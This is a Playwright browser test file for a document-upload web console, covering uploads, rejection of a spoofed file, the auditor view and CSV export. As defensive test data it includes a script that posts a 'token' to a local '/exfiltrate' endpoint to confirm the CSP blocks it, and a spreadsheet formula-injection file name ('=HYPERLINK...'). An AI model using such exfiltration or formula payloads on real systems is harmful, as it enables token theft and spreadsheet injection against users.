import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { launchChromium } from '../support/browser.js';
import * as samples from '../fixtures/samples.js';
import { REPO_ROOT } from '../../local/settings.js';
import { createUpload, sharedRuntime, tokenFor, uniqueUser } from './support.js';

/**
 * The web console in a real browser (Debian's Chromium driven by playwright-core), against the
 * shared local runtime. Screenshots of each main screen go to test-results/console/ (not
 * committed) for people to look at.
 */
const runtime = sharedRuntime();
const SCREENSHOTS = join(REPO_ROOT, 'test-results', 'console');
let browser: Browser;

beforeAll(async () => {
  mkdirSync(SCREENSHOTS, { recursive: true });
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
});

async function signIn(page: Page, token: string): Promise<void> {
  await page.goto(runtime.apiUrl);
  await page.getByLabel('Token').fill(token);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByRole('heading', { name: 'Upload documents' }).waitFor();
}

/** Files as a user would pick them: real files on disk. */
function filesOnDisk(files: Array<{ name: string; bytes: Buffer }>): string[] {
  const dir = join(tmpdir(), `airlock-console-${Math.random().toString(36).slice(2)}`);
  mkdirSync(dir, { recursive: true });
  return files.map(({ name, bytes }) => {
    const path = join(dir, name);
    writeFileSync(path, bytes);
    return path;
  });
}

describe('web console', () => {
  it('uploads dropped files with progress to 100%, shows PROCESSED and downloads the same bytes', async () => {
    // Arrange
    const page = await browser.newPage({ acceptDownloads: true });
    const violations: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    await signIn(page, await tokenFor(runtime, uniqueUser('console')));
    const pdf = samples.pdf();
    const [pdfPath, pngPath] = filesOnDisk([
      { name: 'report.pdf', bytes: pdf },
      { name: 'chart.png', bytes: samples.png() },
    ]);
    // Act: the drop zone opens the file chooser (keyboard or click), as a user drops many files.
    const chooser = page.waitForEvent('filechooser');
    await page.getByRole('button', { name: /Drop files here/ }).press('Enter');
    await (await chooser).setFiles([pdfPath!, pngPath!]);
    // Assert
    const card = page.locator('li.upload', { hasText: 'report.pdf' });
    await waitInPage(page, () =>
      Array.from((globalThis as unknown as PageWindow).document.querySelectorAll('li.upload')).every(
        (li) => li.getAttribute('data-status') === 'PROCESSED',
      ),
    );
    const bars = page.locator('li.upload progress');
    expect([await bars.nth(0).getAttribute('value'), await bars.nth(1).getAttribute('value')]).toEqual([
      '100',
      '100',
    ]);
    expect(await card.locator('.timeline li').allTextContents()).toEqual([
      expect.stringContaining('ISSUED'),
      expect.stringContaining('CLAIMED'),
      expect.stringContaining('PROCESSED'),
    ]);
    await page.screenshot({ path: join(SCREENSHOTS, 'uploads-processed.png'), fullPage: true });
    // The link is signed on click (GET /uploads/{id}/download), then followed at once.
    const signed = page.waitForResponse((response) => /\/uploads\/[^/]+\/download$/.test(response.url()));
    const download = page.waitForEvent('download');
    await card.getByRole('button', { name: 'Download report.pdf' }).click();
    expect((await signed).status()).toBe(200);
    const saved = await download;
    expect(saved.suggestedFilename()).toBe('report.pdf');
    expect(readFileSync(await saved.path()).equals(pdf)).toBe(true);
    expect(violations).toEqual([]); // uploads to S3 and API calls all pass the CSP
    await page.close();
  });

  it('runs under the deployed CSP: only its own origin and the upload endpoint are reachable', async () => {
    // Arrange
    const page = await browser.newPage();
    const violations: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    const response = await page.goto(runtime.apiUrl);
    // Act: a script tries to send data to another origin (a stolen token's way out).
    const outcome = await page.evaluate(() =>
      fetch('http://127.0.0.1:9/exfiltrate', { method: 'POST', body: 'token' }).then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    // Assert
    expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toMatch(
      /connect-src 'self' http:\/\/127\.0\.0\.1:\d+$/,
    );
    expect(outcome).toBe('blocked');
    expect(violations.join('\n')).toMatch(/connect-src/);
    await page.close();
  });

  it('shows a rejection reason in plain words and no download button', async () => {
    // Arrange
    const page = await browser.newPage();
    await signIn(page, await tokenFor(runtime, uniqueUser('console')));
    const [spoofed] = filesOnDisk([{ name: 'invoice.pdf', bytes: samples.exe() }]);
    // Act
    await page.locator('#file-input').setInputFiles([spoofed!]);
    // Assert
    const card = page.locator('li.upload', { hasText: 'invoice.pdf' });
    await waitInPage(
      page,
      () =>
        (globalThis as unknown as PageWindow).document
          .querySelector('li.upload')
          ?.getAttribute('data-status') === 'REJECTED',
    );
    expect(await card.locator('.reasons li[data-code="TYPE_MISMATCH"]').textContent()).toBe(
      'The content of the file does not match its type.',
    );
    expect(await card.getByRole('button', { name: /Download/ }).count()).toBe(0);
    await page.screenshot({ path: join(SCREENSHOTS, 'upload-rejected.png'), fullPage: true });
    await page.close();
  });

  it('auditor view: filters by status, date range and owner, opens a trail and exports CSV', async () => {
    // Arrange: an upload by another user, processed.
    const owner = uniqueUser('audited');
    const ownerPage = await browser.newPage();
    await signIn(ownerPage, await tokenFor(runtime, owner));
    const [csvPath] = filesOnDisk([{ name: 'ledger.csv', bytes: samples.csv() }]);
    await ownerPage.locator('#file-input').setInputFiles([csvPath!]);
    await waitInPage(
      ownerPage,
      () =>
        (globalThis as unknown as PageWindow).document
          .querySelector('li.upload')
          ?.getAttribute('data-status') === 'PROCESSED',
    );
    await ownerPage.close();
    const page = await browser.newPage({ acceptDownloads: true, viewport: { width: 390, height: 844 } });
    await signIn(page, await tokenFor(runtime, uniqueUser('auditor'), ['auditors']));
    // Act
    await page.getByRole('button', { name: 'Audit' }).click();
    await page.getByLabel('Status').selectOption('PROCESSED');
    await page.getByLabel('Owner').fill(owner);
    await page.getByLabel('From').fill(new Date(Date.now() - 3600_000).toISOString().slice(0, 16));
    await page.getByRole('button', { name: 'Search' }).click();
    // Assert
    await waitForCount(page, '#audit-table tbody tr', 1);
    const rows = page.locator('#audit-table tbody tr');
    expect(await rows.first().textContent()).toContain(owner);
    expect(await rows.first().textContent()).toContain('ledger.csv');
    await rows.first().getByRole('button', { name: 'Open trail' }).click();
    await waitForCount(page, '#trail-list li', 3);
    await page.screenshot({ path: join(SCREENSHOTS, 'audit-phone.png'), fullPage: true });
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export CSV' }).click();
    const csv = readFileSync(await (await download).path(), 'utf8')
      .trim()
      .split(/\r\n/);
    expect(csv[0]).toBe(
      'uploadId,owner,fileName,status,at,action,from,to,reasons,versionId,actor,executionId',
    );
    expect(csv.slice(1).map((line) => line.split(',')[5])).toEqual(['ISSUED', 'CLAIMED', 'PROCESSED']);
    expect(csv.slice(1).every((line) => line.includes(owner))).toBe(true);
    await page.close();
  });
});

describe('web console CSV export', () => {
  it('neutralizes a file name and an owner a spreadsheet would run as formulas', async () => {
    // Arrange: an owner whose id and file name are formulas (both are the caller's own input).
    const owner = uniqueUser('@owner');
    const fileName = '=HYPERLINK("http://x","y")';
    const created = await createUpload(runtime, await tokenFor(runtime, owner), {
      fileName,
      contentType: 'text/csv',
      size: 10,
    });
    const page = await browser.newPage({ acceptDownloads: true });
    await signIn(page, await tokenFor(runtime, uniqueUser('auditor'), ['auditors']));
    await page.getByRole('button', { name: 'Audit' }).click();
    await page.getByLabel('Owner').fill(owner);
    await page.getByRole('button', { name: 'Search' }).click();
    await waitForCount(page, '#audit-table tbody tr', 1);
    // Act
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export CSV' }).click();
    const csv = readFileSync(await (await download).path(), 'utf8');
    // Assert: the row of the ISSUED event, as RFC 4180 quotes it, with each formula behind a "'".
    const row = csv.split('\r\n').find((line) => line.startsWith(created.uploadId));
    expect(row).toBeDefined();
    expect(row).toContain(`,'${owner},"'=HYPERLINK(""http://x"",""y"")",PENDING_UPLOAD,`);
    expect(csv).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);
    await page.close();
  });
});

/**
 * The page's DOM, typed just enough for the conditions below (this tier compiles without the DOM
 * lib). Page functions are sent to the browser as they are: each reaches it through globalThis.
 */
interface PageWindow {
  document: {
    querySelector(css: string): { getAttribute(name: string): string | null } | null;
    querySelectorAll(css: string): ArrayLike<{ getAttribute(name: string): string | null }>;
  };
}

/**
 * Waits, with a deadline, until a condition holds in the page. A function, not a string: the
 * console runs under its deployed CSP, which refuses string evaluation (no 'unsafe-eval').
 */
async function waitInPage(page: Page, condition: () => boolean, timeout = 60_000): Promise<void> {
  await page.waitForFunction(condition, undefined, { timeout });
}

/** Waits (with a deadline) until exactly `count` elements match. */
async function waitForCount(page: Page, selector: string, count: number): Promise<void> {
  await page.waitForFunction(
    ([css, expected]) =>
      (globalThis as unknown as PageWindow).document.querySelectorAll(css).length === expected,
    [selector, count] as const,
    { timeout: 30_000 },
  );
}
